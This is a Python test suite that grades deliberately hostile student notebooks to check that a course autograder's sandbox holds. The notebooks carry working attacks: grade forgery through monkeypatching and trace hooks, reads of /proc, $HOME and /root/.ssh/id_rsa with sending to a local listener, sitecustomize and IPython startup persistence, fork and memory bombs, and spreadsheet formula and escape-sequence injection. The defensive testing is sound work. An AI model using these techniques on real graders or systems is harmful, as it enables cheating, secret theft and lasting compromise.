"""Hostile chapter-1 submissions against ``coursenn grade`` (issue 20, item 5).

Each submission is the student version of chapter 1 (cut with :func:`slim`, so it runs fast)
plus code a determined student would write to get marks they did not earn, to read what they
must not, to damage what outlives their notebook, or to poison the gradebook. All of them,
with a correct and a blank submission and a classmate, are graded in ONE run of the command
line (``python -m coursenn grade ... --jobs 2``, a subprocess, so the grader has a command
line and an environment of its own to protect), then a blank notebook is graded in a second,
separate run. The instructor's files (the ``--source`` chapter, a secret file, ``$HOME``, the
gradebook) live under ``/var/tmp``, outside the ``/tmp`` the sandbox replaces anyway.

Every test states a security property:

- forged exercises score 0 (the verdict is taken in the grader, from plain data);
- no secret of the grader (its ``--source``, environment, command line, ``$HOME``, other files,
  classmates' notebooks) reaches the gradebook, the terminal or a 127.0.0.1 listener, although
  the same channel carries the submission's own text (``EXFIL-OK``);
- the package, the Python environment, the instructor's files and classmates' notebooks are
  byte-identical afterwards; nothing of the run is alive afterwards; a later run is not
  affected;
- no gradebook cell starts like a formula or holds a control character, and the terminal gets
  no escape sequence.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell
from test_instructor_grade import role_cells, slim

from coursenn.instructor import student
from coursenn.instructor.cells import parse_exercises

from repo import CHAPTERS, read_notebook

if shutil.which("bwrap") is None:
    if os.environ.get("CI"):
        pytest.fail("bubblewrap (bwrap) is required on CI: the attack suite needs the sandbox")
    pytest.skip(
        "bubblewrap (bwrap) is not installed: the attack suite grades inside the sandbox "
        "(sudo apt-get install bubblewrap)",
        allow_module_level=True,
    )

CH01 = CHAPTERS / "01_neuron.ipynb"
LABELS = [ex.label for ex in parse_exercises(read_notebook(CH01), CH01)]
ZERO = dict.fromkeys(LABELS, "0")
FULL = dict.fromkeys(LABELS, "1")
MEMORY_MB = 2048  # --memory-mb of the run: the memory bombs stay small on the test machine
TIMEOUT = 60

TOKEN = secrets.token_hex(6)
MARK = f"atkproc{TOKEN}"  # in the command line of every process an attack starts
PREFIX = "ATKSECRET-"


def secret() -> str:
    return PREFIX + secrets.token_hex(8)


SECRETS = {  # what must not leak, by where the grader keeps it
    "source": secret(),  # a cell of the instructor's --source chapter
    "cmdline": secret(),  # in the grader's command line (the --source folder's name)
    "environ": secret(),  # in the grader's environment
    "home": secret(),  # a file in the grader's $HOME
    "file": secret(),  # another file of the instructor's
    "classmate": secret(),  # a classmate's notebook
}

# Finds secrets in whatever it reads, and says so through every channel it has: the text of an
# exception at the end of the notebook (the error column), and a 127.0.0.1 listener.
READER = """\
import glob, os, re, socket
_PAT = re.compile("ATK" + "SECRET-[0-9a-f]{{16}}")
_found, _errs = set(), set()

def _read(path):
    try:
        with open(path, "rb") as handle:
            data = handle.read(20_000_000).decode("latin-1")
    except OSError as exc:
        _errs.add(type(exc).__name__)
        return ""
    _found.update(_PAT.findall(data))
    if "BEGIN " + "SOLUTION" in data:
        _found.add("SOLUTION-SEEN")
    return data

_wrote = []

def _exfil(note):
    text = ("EXFIL-OK " + " ".join(sorted(_found)) + f" wrote={{_wrote}} {{note}}"
            + f" errs={{sorted(_errs)}}")
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=1) as conn:
            conn.sendall(text.encode())
    except OSError as exc:
        text += f" net={{type(exc).__name__}}"
    return text
"""

# The library's layers under names the source check cannot see: "only numpy" is a requirement
# on the code, so code the grader cannot read fails it (fail closed).
LIBRARY_FORWARD = """\
_L = __import__("coursenn.nn.layers", fromlist=["x"])

def forward(X, W1, b1, W2, b2):
    dense = getattr(_L, "De" + "nse")
    first, second = dense(*W1.shape), dense(*W2.shape)
    first.W.data, first.b.data, second.W.data, second.b.data = W1, b1, W2, b2
    return getattr(_L, "Seq" + "uential")(first, getattr(_L, "Ta" + "nh")(), second).forward(X)
"""

ORACLE = """\
import hashlib as _h
import coursenn.exercises as _E

def _oracle_answers(user):
    nand = _E.get("ch01-nand").fresh.__globals__["_nand" + "_expected"]
    forward = None
    choice = _E.get("ch01-bias-slider")
    letter = next(o for o in choice.options
                  if "sha256:" + _h.sha256(f"ch01-bias-slider:{o}".encode()).hexdigest() == choice.digest)
    user.update(nand_unit=nand, forward=forward, n_params=_E.get("ch01-count-params").value(),
                answer=letter)
"""


SHADOW = """\
import os
os.makedirs("coursenn/instructor", exist_ok=True)
for init in ("coursenn/__init__.py", "coursenn/instructor/__init__.py"):
    open(init, "w").write("")
open("coursenn/instructor/collect.py", "w").write(
    "from IPython.display import display\\n"
    "def reply(user, request):\\n"
    "    display({'application/vnd.coursenn.reply+json': "
    "'{\\"status\\": \\"value\\", \\"value\\": true, \\"ok\\": true}'}, raw=True)\\n")
"""


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def snapshot(*roots: Path) -> dict[str, str]:
    """Path -> sha256 of every file under ``roots`` (symbolic links: their target)."""
    out = {}
    for root in roots:
        for path in sorted(root.rglob("*")):
            if path.is_symlink():
                out[str(path)] = "-> " + os.readlink(path)
            elif path.is_file():
                out[str(path)] = _sha(path)
    return out


def site_packages() -> list[Path]:
    import site

    return [Path(p) for p in {*site.getsitepackages(), sys.prefix, sys.base_prefix}]


def environment_listing() -> dict[str, list[str]]:
    """The top of every site-packages and IPython/Jupyter config folder: where a .pth file,
    a sitecustomize or a startup file would make damage outlive the run."""
    folders = [p for p in site_packages() if p.is_dir()]
    for prefix in {sys.prefix, sys.base_prefix, "/usr/local", "/usr", ""}:
        for sub in ("etc/ipython", "etc/jupyter", "share/jupyter/kernels/python3"):
            folders.append(Path(prefix or "/", sub))
    return {str(f): sorted(os.listdir(f)) if f.is_dir() else [] for f in folders}


def survivors() -> list[str]:
    """Processes of the run still alive: an attack's marker in the command line, or a kernel or
    bwrap whose run folder (``/tmp/cg-*``) the grader has already removed."""
    import psutil

    found = []
    for proc in psutil.process_iter(["pid", "cmdline"]):
        try:
            cmd = " ".join(proc.info["cmdline"] or [])
        except (psutil.Error, TypeError):
            continue
        if MARK in cmd:
            found.append(f"{proc.info['pid']}: {cmd[:200]}")
            continue
        for match in re.finditer(r"/tmp/cg-[A-Za-z0-9_]+", cmd):
            if not os.path.exists(match.group()):
                found.append(f"{proc.info['pid']}: {cmd[:200]}")
                break
    return found


def settled_survivors(tries: int = 10) -> list[str]:
    """:func:`survivors`, asked again for a few seconds (a kernel may take a moment to end)."""
    for _ in range(tries):
        left = survivors()
        if not left:
            return []
        time.sleep(0.5)
    return left


class Listener:
    """A TCP listener on 127.0.0.1 that records whatever connects (nothing may)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stopped.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(65536) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def stop(self) -> None:
        self.stopped.set()
        self.thread.join(timeout=5)
        self.sock.close()


# --- the submissions ------------------------------------------------------------------------


class Builder:
    """Writes hostile submissions; remembers the row each must get."""

    def __init__(self, folder: Path, instructor: Path, student_nb, port: int, paths: dict):
        self.folder, self.instructor, self.port, self.paths = folder, instructor, port, paths
        self.student = student_nb
        self.published = read_notebook(CH01)
        self.expected: dict[str, dict] = {}

    def blank(self):
        return slim(self.student)

    def correct(self):
        nb = slim(self.student)
        pub = {ex.label: ex for ex in parse_exercises(self.published, CH01)}
        for label, i in role_cells(nb, "answer").items():
            nb.cells[i].source = self.published.cells[pub[label].answer_cells[0]].source
        return nb

    def reader(self) -> str:
        return READER.format(port=self.port)

    def submit(self, name, nb, marks, errors=(), *, exact_error=None, before=(), answers=None,
               after=()):  # fmt: skip
        """``before``: cells put after the imports; ``answers``: label -> new answer cell;
        ``after``: cells appended at the end. ``errors``: fragments the error column holds."""
        answer_at = role_cells(nb, "answer")
        for label, source in (answers or {}).items():
            nb.cells[answer_at[label]].source = source
        for offset, source in enumerate(before):
            nb.cells.insert(1 + offset, new_code_cell(source))
        nb.cells += [new_code_cell(source) for source in after]
        nbformat.write(nb, self.folder / name)
        self.expected[name] = {"marks": marks, "errors": list(errors), "exact": exact_error}


def write_submissions(b: Builder) -> None:
    p = b.paths
    exfil_tail = ['raise RuntimeError(_exfil("end"))']

    # -- controls -----------------------------------------------------------------------------
    b.submit("correct.ipynb", b.correct(), FULL, exact_error="")
    b.submit("blank.ipynb", b.blank(), ZERO, exact_error="")
    nb = b.correct()
    nb.cells.append(new_markdown_cell(f"my notes: {SECRETS['classmate']}"))
    b.submit("classmate.ipynb", nb, FULL, exact_error="")

    # -- in-kernel forgery: every answer left blank, every exercise must stay 0 -----------------
    b.submit(
        "forge_compare.ipynb",
        b.blank(),
        ZERO,
        before=[
            """\
import builtins, numpy as np
import coursenn.exercises._compare as C
np.isclose = lambda *a, **k: np.ones(np.broadcast(*a[:2]).shape, bool)
np.allclose = np.array_equal = np.array_equiv = lambda *a, **k: True
builtins.all = lambda *a, **k: True
C.compare = lambda *a, **k: None
np.testing.assert_allclose = lambda *a, **k: None
"""
        ],
    )

    b.submit(
        "forge_print_json.ipynb",
        b.blank(),
        ZERO,
        before=[
            """\
import builtins, json, sys
_dumps, _print, _write = json.dumps, builtins.print, sys.stdout.write
def _fake(obj, *a, **k):
    return _dumps({"status": "callable", "ok": True, "passed": True, "label": "ch01-nand"})
json.dumps = _fake
builtins.print = lambda *a, **k: _print(*(str(x).replace('"ok": false', '"ok": true') for x in a), **k)
sys.stdout.write = lambda s: _write(s.replace("❌", "✅"))
"""
        ],
    )

    b.submit(
        "forge_hooks.ipynb",
        b.blank(),
        ZERO,
        before=[
            """\
import json, threading, time
from IPython import get_ipython
from IPython.display import display
from coursenn.exercises import get
_MIME = "application/vnd.coursenn.reply+json"
_ip = get_ipython()

def _forged_for(cell):
    m = re.search(r"reply\\(globals\\(\\), (.*)\\)\\s*$", cell, re.S)
    if not m:
        return None
    request = json.loads(eval(m.group(1)))
    if request["calls"] is None:
        return {"status": "value", "value": True, "ok": True}
    label = {"nand_unit": "ch01-nand", "forward": "ch01-forward"}[request["expr"]]
    public = [c.expected for c in get(label).public_cases()]
    import coursenn.instructor.wire as w
    outcomes = [{"result": w.encode(public[i % len(public)]), "error": None, "warnings": [],
                 "calls": [], "args_after": None} for i in range(len(request["calls"]))]
    return {"status": "called", "outcomes": outcomes, "ok": True}

import re
def _pre(info):
    forged = _forged_for(info.raw_cell or "")
    if forged is not None:
        display({_MIME: json.dumps(forged)}, raw=True)
        print("✅ all tests pass")
def _post(result):
    print("✅ all tests pass")
_ip.events.register("pre_run_cell", _pre)
_ip.events.register("post_run_cell", _post)

def _rewrite(lines):
    cell = "".join(lines)
    forged = _forged_for(cell)
    if forged is None:
        return lines
    return [f"from IPython.display import display\\n",
            f"display({{{_MIME!r}: {json.dumps(forged)!r}}}, raw=True)\\n"]
_ip.input_transformers_post.append(_rewrite)
_ip.input_transformers_cleanup.insert(0, _rewrite)

def _spam():  # a thread that keeps handing in forged replies, whatever cell runs
    for _ in range(400):
        display({_MIME: json.dumps({"status": "value", "value": 535818})}, raw=True)
        time.sleep(0.01)
threading.Thread(target=_spam, daemon=True).start()
"""
        ],
    )

    b.submit(
        "forge_settrace.ipynb",
        b.blank(),
        ZERO,
        before=[
            """\
import sys, json, ctypes
def _tracer(frame, event, arg):
    code = frame.f_code
    if "collect" in code.co_filename or "_probe" in code.co_filename:
        if event == "return" and code.co_name == "_answer":
            return None
        for key in ("payload", "outcome", "answer"):
            if key in frame.f_locals and key == "payload":
                frame.f_locals[key] = {"status": "value", "value": True, "ok": True}
                ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return _tracer
sys.settrace(_tracer)
import threading; threading.settrace(_tracer)
"""
        ],
    )

    fake_collect = """\
import sys, types, json, importlib.util
from IPython.display import display
_MIME = "application/vnd.coursenn.reply+json"
def _fake_reply(user, request):
    display({_MIME: json.dumps({"status": "value", "value": True, "ok": True,
                                "verdict": "correct"})}, raw=True)
fake = types.ModuleType("coursenn.instructor.collect")
fake.reply, fake.MIME = _fake_reply, _MIME
sys.modules["coursenn.instructor.collect"] = fake
import coursenn.instructor as _ci
_ci.collect = fake
_orig_spec = importlib.util.spec_from_file_location
def _spec(name, location=None, *a, **k):
    return _orig_spec(name, "/tmp/forged_collect.py", *a, **k)
open("/tmp/forged_collect.py", "w").write("reply = lambda *a, **k: None\\n")
importlib.util.spec_from_file_location = _spec
# and a copy that shadows the package from the working folder (first on sys.path)
import os
os.makedirs("coursenn/instructor", exist_ok=True)
open("coursenn/__init__.py", "w").write("")
open("coursenn/instructor/__init__.py", "w").write("")
open("coursenn/instructor/collect.py", "w").write(
    "from IPython.display import display\\n"
    "def reply(user, request):\\n"
    "    display({%r: '{\\"status\\": \\"callable\\", \\"ok\\": true}'}, raw=True)\\n" % _MIME)
"""
    b.submit("forge_import.ipynb", b.blank(), ZERO, before=[fake_collect])
    # the package not imported yet: a copy in the working folder (first on sys.path) is found
    nb = b.blank()
    nb.cells[0].source = "import numpy as np\n"
    b.submit("forge_shadow_package.ipynb", nb, ZERO, before=[SHADOW])

    frames = """\
import sys
def _from_frames(*args):
    frame = sys._getframe(1)
    while frame is not None:
        for key in ("expected", "case", "cases", "trial", "src"):
            value = frame.f_locals.get(key)
            if key == "expected" and value is not None:
                return value
            if hasattr(value, "expected"):
                return value.expected
            if hasattr(value, "cases") and getattr(value, "cases"):
                return value.cases[0].expected
        frame = frame.f_back
    raise LookupError("no expected value in any frame")
"""
    b.submit(
        "forge_frames.ipynb", b.blank(), ZERO,
        [f"{LABELS[0]}: ", f"{LABELS[2]}: ", "LookupError"],
        before=[frames],
        answers={
            "ch01-nand": "def nand_unit(x1, x2):\n    return _from_frames(x1, x2)",
            "ch01-forward": "def forward(X, W1, b1, W2, b2):\n    return _from_frames(X)",
        },
    )  # fmt: skip

    b.submit(
        "forge_patch_reference.ipynb", b.blank(), ZERO, [f"{LABELS[0]}: ", f"{LABELS[2]}: "],
        before=["""\
import numpy as np
import coursenn.nn.activations as A, coursenn.data as D, coursenn.nn.layers as L
import coursenn.exercises as E
np.tanh = lambda x, *a, **k: 0 * np.asarray(x)
A.sign = lambda x: 0 * np.asarray(x, float)
L.Dense.forward = lambda self, X: np.zeros((len(X), self.W.data.shape[1]))
L.Sequential.forward = lambda self, X: np.zeros((len(X), 1))
D.logic_gate = lambda name: (np.array([[1.0, 1.0]]), np.array([0.0]))
try:  # the registry is not in the sandbox (a stub stands in): patch it where it exists
    E.get("ch01-count-params")._cache[:] = [0]
    for label in ("ch01-nand", "ch01-forward"):
        E.get(label)._cache[:] = [[]]
except AttributeError:
    pass
"""],
        answers={
            "ch01-nand": "def nand_unit(x1, x2):\n    return 0 * np.asarray(x1, float)",
            "ch01-forward": "def forward(X, W1, b1, W2, b2):\n"
                            "    return np.zeros((len(X), W2.shape[1]))",
        },
    )  # fmt: skip

    lookup = """\
import numpy as np
try:
    from coursenn.exercises import get
except ImportError:  # the registry is not in the sandbox: fall back to a plausible guess
    get = None
def _public(label, *args):
    if get is None:
        return np.ones(np.shape(args[0])) if label == "ch01-nand" else np.zeros((len(args[0]), 1))
    cases = get(label).public_cases()
    for case in cases:
        if len(case.args) == len(args) and all(
            np.shape(a) == np.shape(c) and np.allclose(a, c) for a, c in zip(args, case.args)
        ):
            return case.expected
    return cases[-1].expected
"""
    b.submit(
        "forge_public_cases.ipynb", b.blank(), ZERO, [f"{LABELS[0]}: ", f"{LABELS[2]}: "],
        before=[lookup],
        answers={
            "ch01-nand": "def nand_unit(x1, x2):\n    return _public('ch01-nand', x1, x2)",
            "ch01-forward": "def forward(X, W1, b1, W2, b2):\n"
                            "    return _public('ch01-forward', X, W1, b1, W2, b2)",
        },
    )  # fmt: skip

    forged_display = """\
import json
from IPython.display import display
display({"application/vnd.coursenn.reply+json": json.dumps(
    {"status": "value", "value": True, "ok": True})}, raw=True)
"""
    nb = b.blank()
    b.submit("forge_display.ipynb", nb, ZERO, answers={
        label: forged_display + source
        for label, source in [(LABELS[0], "nand_unit = None"), (LABELS[1], "n_params = None"),
                              (LABELS[2], "forward = None"), (LABELS[3], "answer = None")]
    })  # fmt: skip

    # The package's own reference, called on the grader's inputs: a correct value the student
    # did not compute (the registry's reference function; the library's layers under names the
    # source check cannot see).
    b.submit(
        "oracle_reference.ipynb", b.blank(), ZERO,
        ["AttributeError: module 'coursenn.exercises' has no attribute 'get'"],
        before=[ORACLE + "_oracle_answers(globals())\n_keep = dict(globals())\n"],
        answers={"ch01-nand": "nand_unit = _keep['nand_unit']"},
    )  # fmt: skip
    b.submit(
        "oracle_library.ipynb", b.blank(), ZERO, [f"{LABELS[2]}: ", "运行时查找名字"],
        answers={"ch01-forward": LIBRARY_FORWARD},
    )  # fmt: skip

    # -- reading ------------------------------------------------------------------------------
    b.submit("reads_source.ipynb", b.blank(), ZERO, ["RuntimeError: EXFIL-OK"], before=[
        b.reader() + f"""\
for path in glob.glob({str(b.instructor)!r} + "/**/*", recursive=True) + [{str(CH01)!r}]:
    _read(path)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for arg in _read(f"/proc/{{pid}}/cmdline").split("\\0"):
            if arg.endswith(".ipynb") or os.path.isdir(arg):
                for path in [arg, *glob.glob(arg + "/*.ipynb")]:
                    _read(path)
"""], after=exfil_tail)  # fmt: skip

    b.submit("reads_classmates.ipynb", b.blank(), ZERO, ["RuntimeError: EXFIL-OK"], before=[
        b.reader() + f"""\
for path in glob.glob("*.ipynb") + glob.glob("../**/*.ipynb", recursive=True) + [
        {str(b.folder / 'classmate.ipynb')!r}]:
    _read(path)
for path in glob.glob({str(b.folder)!r} + "/*.ipynb"):
    _read(path)
"""], after=exfil_tail)  # fmt: skip

    b.submit("reads_grader.ipynb", b.blank(), ZERO, ["RuntimeError: EXFIL-OK"], before=[
        b.reader() + """\
_found.update(_PAT.findall(" ".join(f"{k}={v}" for k, v in os.environ.items())))
for pid in ["self", str(os.getppid()), "1", *[p for p in os.listdir("/proc") if p.isdigit()]]:
    for part in ("cmdline", "environ"):
        _read(f"/proc/{pid}/{part}")
"""], after=exfil_tail)  # fmt: skip

    b.submit("reads_home.ipynb", b.blank(), ZERO, ["RuntimeError: EXFIL-OK"], before=[
        b.reader() + f"""\
for path in [{str(p['home'] / '.secret')!r}, {str(p['secret_file'])!r},
             os.path.expanduser("~/.secret"), "/root/.bash_history", "/root/.ssh/id_rsa"]:
    _read(path)
for path in glob.glob({str(p['home'])!r} + "/**", recursive=True):
    _read(path)
"""], after=exfil_tail)  # fmt: skip

    b.submit("reads_network.ipynb", b.blank(), ZERO, ["RuntimeError: EXFIL-OK", "net="], before=[
        b.reader() + f"""\
_found.add("NETPROBE")
for host in ("127.0.0.1", "localhost", "::1"):
    try:
        socket.create_connection((host, {b.port}), timeout=1).sendall(b"hello from the sandbox")
        _errs.add("CONNECTED-" + host)
    except OSError as exc:
        _errs.add(type(exc).__name__)
"""], after=exfil_tail)  # fmt: skip

    # -- damage -------------------------------------------------------------------------------
    import coursenn

    package = Path(coursenn.__file__).parent
    site = next(p for p in site_packages() if p.name == "site-packages" and p.is_dir())
    b.submit("damages_package.ipynb", b.blank(), ZERO, ["RuntimeError: EXFIL-OK"],
             before=[b.reader() + f"""\
_targets = [
    ({str(package / 'instructor' / 'collect.py')!r}, "a"),
    ({str(package / 'instructor' / 'grade.py')!r}, "a"),
    ({str(package / 'exercises' / 'ch01.py')!r}, "a"),
    ({str(package / 'exercises' / 'zz_evil.py')!r}, "w"),
    ({str(package / 'instructor' / '__pycache__' / 'evil.pyc')!r}, "w"),
    ({str(site / 'zz_evil.pth')!r}, "w"),
    ({str(site / 'sitecustomize.py')!r}, "w"),
    ({str(Path(sys.base_prefix) / 'lib' / 'python3.11' / 'sitecustomize.py')!r}, "w"),
]
for path, mode in _targets:
    try:
        with open(path, mode) as handle:
            handle.write("\\nimport os  # {MARK}\\n")
        _wrote.append(os.path.basename(path))
    except OSError as exc:
        _errs.add(type(exc).__name__ + ":" + str(exc.strerror))
try:
    os.chmod({str(package / 'instructor' / 'collect.py')!r}, 0o777)
    _wrote.append("chmod")
except OSError as exc:
    _errs.add("OSError")
"""], after=exfil_tail)  # fmt: skip

    startup = ORACLE + (
        "import coursenn.instructor.collect as _c\n_orig = _c._answer\n"
        "def _answer(user, request):\n    _oracle_answers(user)\n    return _orig(user, request)\n"
        "_c._answer = _answer\n"
    )
    b.submit(
        "damages_startup.ipynb",
        b.blank(),
        ZERO,
        before=[
            f"""\
import os, sys
_wrote = []
for folder in [os.path.expanduser("~/.ipython/profile_default/startup"),
               {str(p["home"] / ".ipython" / "profile_default" / "startup")!r},
               os.path.join(sys.prefix, "etc", "ipython", "startup"),
               "/etc/ipython", "/usr/local/etc/ipython",
               os.path.join(sys.prefix, "etc", "jupyter")]:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "00-forge.py"), "w") as handle:
            handle.write({startup!r})
        with open(os.path.join(folder, "ipython_kernel_config.py"), "w") as handle:
            handle.write("c.InteractiveShellApp.exec_lines = ['import os']\\n")
        _wrote.append(folder)
    except OSError:
        pass
"""
        ],
    )

    classmate = str(b.folder / "classmate.ipynb")
    b.submit("damages_classmate.ipynb", b.blank(), ZERO, ["RuntimeError: EXFIL-OK"], before=[
        b.reader() + f"""\
import json
for path in [{classmate!r}, *glob.glob({str(b.folder)!r} + "/*.ipynb")]:
    try:
        with open(path, "w") as handle:
            json.dump({{"cells": [], "metadata": {{}}, "nbformat": 4, "nbformat_minor": 5}}, handle)
        _wrote.append("overwrote")
    except OSError as exc:
        _errs.add(type(exc).__name__)
    for damage in (os.remove, lambda p: os.rename(p, p + ".bak"), lambda p: os.truncate(p, 0)):
        try:
            damage(path)
            _wrote.append("damaged")
        except OSError as exc:
            _errs.add(type(exc).__name__)
"""], after=exfil_tail)  # fmt: skip

    daemon_script = (
        f"i=0; while [ $i -lt 60 ]; do sleep 1; echo pwned >> '{p['csv']}'; "
        f"echo pwned >> '{p['dropped']}'; i=$((i+1)); done"
    )
    b.submit(
        "damages_daemon.ipynb",
        b.blank(),
        ZERO,
        before=[
            f"""\
import os, subprocess
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c", {daemon_script!r}, "{MARK}-daemon"])
    os._exit(0)
os.waitpid(pid, 0)
subprocess.Popen(["/bin/sh", "-c", {daemon_script!r}, "{MARK}-nohup"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
        ],
    )

    b.submit("damages_forkbomb.ipynb", b.blank(), ZERO, ["RuntimeError: EXFIL-OK forks="], before=[
        f"""\
import os, time
forks, why = 0, "nothing"
try:
    while forks < 300:  # bounded: a broken sandbox must not take the machine down
        if os.fork() == 0:
            try:
                os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 60; :", "{MARK}-bomb"])
            finally:
                os._exit(0)
        forks += 1
except OSError as exc:
    why = type(exc).__name__
raise RuntimeError(f"EXFIL-OK forks={{forks}} stopped by {{why}}")
"""])  # fmt: skip

    b.submit("damages_memory.ipynb", b.blank(), ZERO, ["RuntimeError: EXFIL-OK memory="],
             before=["""\
import numpy as np
blocks, mib, why = [], 0, "nothing"
try:
    while mib < 6 * 1024:  # capped at 6 GiB
        blocks.append(np.ones(128 * 2**20 // 8))
        mib += 128
except MemoryError:
    why = "MemoryError"
del blocks
raise RuntimeError(f"EXFIL-OK memory={mib} MiB stopped by {why}")
"""])  # fmt: skip

    b.submit("damages_memory_children.ipynb", b.blank(), ZERO,  # reason: see its own test
             [], before=["""\
import os, time
import numpy as np
pipes, kids = [], []
for _ in range(4):  # 4 processes, each under the address-space limit: 6 GiB at most together
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read)
        blocks, mib = [], 0
        try:
            while mib < 1536:
                blocks.append(np.ones(128 * 2**20 // 8))
                mib += 128
        except MemoryError:
            pass
        os.write(write, str(mib).encode())
        time.sleep(20)
        os._exit(0)
    os.close(write)
    pipes.append(read)
    kids.append(pid)
reported = [int(os.read(r, 100) or b"0") for r in pipes]
time.sleep(1)  # a child the OOM killer ends after reporting holds nothing any more
alive = [os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in kids]
held = [mib if up else 0 for mib, up in zip(reported, alive)]
for pid, up in zip(kids, alive):
    if up:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
raise RuntimeError(f"EXFIL-OK children={sum(held)} MiB held at once {held} (reported {reported})")
"""])  # fmt: skip

    b.submit("damages_tmpfs.ipynb", b.blank(), ZERO, ["RuntimeError: EXFIL-OK tmp="], before=["""\
import os
chunk, mib, why = b"x" * 2**20, 0, "nothing"
try:
    while mib < 3 * 1024:  # capped at 3 GiB, in files of 128 MiB (under the file-size limit)
        with open(f"/tmp/fill{mib}", "wb") as handle:
            for _ in range(128):
                handle.write(chunk)
        mib += 128
except OSError as exc:
    why = type(exc).__name__
raise RuntimeError(f"EXFIL-OK tmp={mib} MiB stopped by {why}")
"""])  # fmt: skip

    # -- the gradebook ------------------------------------------------------------------------
    b.submit("gradebook_formula.ipynb", b.blank(), ZERO, ['HYPERLINK("http://x","y")'], before=["""\
Evil = type('=HYPERLINK("http://x","y")', (Exception,), {})
raise Evil("+cmd|' /C calc'!A0")
"""])  # fmt: skip

    escapes = "\\x1b[32m\\x1b]0;owned\\x07\\r\\n@SUM(1+1)\\tforged.ipynb,4,4,,1,1,1,1\\r\\n"
    b.submit(
        "gradebook_escapes.ipynb", b.blank(), ZERO, [f"{LABELS[0]}: "],
        before=[f"""\
print("{escapes}" * 3)
import sys; sys.stderr.write("\\x1b[2J\\x1b[31mFAIL\\x1b[0m")
Bad = type("-\\x1b[31mError\\x1b[0m\\r\\n=1+1", (Exception,), {{}})
"""],
        answers={
            "ch01-nand": f'def nand_unit(x1, x2):\n    raise Bad("{escapes}")',
            "ch01-count-params": f'n_params = "=1+1 {escapes}"',
            "ch01-bias-slider": 'answer = "\\x1b[32m=A"',
        },
        after=[f'raise Bad("\\x1b[32m✅ 4/4{escapes}")'],
    )  # fmt: skip
    for name in [
        '=HYPERLINK("http-x","y").ipynb',
        "+1.ipynb",
        "-1.ipynb",
        "@SUM(1).ipynb",
        "\x1b[32m✅ 4-4 full marks\x1b[0m\r\n=cmd.ipynb",
        "\t=tab\x07\x9b31m.ipynb",
    ]:
        b.submit(name, b.blank(), ZERO, exact_error="")


NAMES_WITH_ESCAPES = {"\x1b[32m✅ 4-4 full marks\x1b[0m\r\n=cmd.ipynb", "\t=tab\x07\x9b31m.ipynb"}


def run_grader(submissions: list[str], out: Path, *, cwd: Path, source: Path, home: Path):
    env = {**os.environ, "HOME": str(home), "COURSENN_ATTACK_SECRET": SECRETS["environ"]}
    env.pop("CI", None)
    cmd = [
        sys.executable, "-m", "coursenn", "grade", *submissions, "--source", str(source),
        "--out", str(out), "--jobs", "2", "--timeout", str(TIMEOUT), "--memory-mb", str(MEMORY_MB),
    ]  # fmt: skip
    started = time.monotonic()
    proc = subprocess.run(cmd, cwd=cwd, env=env, capture_output=True, timeout=900)
    return proc, time.monotonic() - started


def read_rows(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    return header, rows


@pytest.fixture(scope="module")
def attack(tmp_path_factory):
    base = Path("/var/tmp") if Path("/var/tmp").is_dir() else tmp_path_factory.getbasetemp()
    instructor = Path(tempfile.mkdtemp(prefix="grade-attack-", dir=base))
    listener = Listener()
    try:
        yield _attack(instructor, listener, tmp_path_factory)
    finally:
        listener.stop()
        shutil.rmtree(instructor, ignore_errors=True)


def _attack(instructor: Path, listener: Listener, tmp_path_factory) -> dict:
    home = instructor / "home"
    home.mkdir()
    (home / ".secret").write_text(f"token = {SECRETS['home']}\n")
    secret_file = instructor / "secret.txt"
    secret_file.write_text(SECRETS["file"])
    source_dir = instructor / f"source-{SECRETS['cmdline']}"
    source_dir.mkdir()
    source_nb = nbformat.from_dict(json.loads(json.dumps(read_notebook(CH01))))
    source_nb.cells.append(new_markdown_cell(f"instructor's note: {SECRETS['source']}"))
    nbformat.write(source_nb, source_dir / CH01.name)
    subs = instructor / "submissions"
    subs.mkdir()
    out = instructor / "grades.csv"
    paths = {"home": home, "secret_file": secret_file, "csv": out,
             "dropped": instructor / "dropped.txt"}  # fmt: skip

    student_dir = tmp_path_factory.mktemp("attack-student")
    student.write_student_notebooks([CH01], student_dir)
    builder = Builder(subs, instructor, read_notebook(student_dir / CH01.name), listener.port,
                      paths)  # fmt: skip
    write_submissions(builder)

    import coursenn

    package = Path(coursenn.__file__).parent
    before, package_before = snapshot(instructor), snapshot(package)
    env_before = environment_listing()

    proc, seconds = run_grader(["."], out, cwd=subs, source=source_dir, home=home)
    csv_bytes = out.read_bytes() if out.exists() else b""
    alive = settled_survivors()
    time.sleep(3)  # a daemon that survived would write now
    csv_later = out.read_bytes() if out.exists() else b""
    after_first = snapshot(instructor)

    later = instructor / "later"
    later.mkdir()
    nbformat.write(slim(read_notebook(student_dir / CH01.name)), later / "later_blank.ipynb")
    out2 = instructor / "later.csv"
    proc2, _ = run_grader([str(later)], out2, cwd=instructor, source=source_dir, home=home)
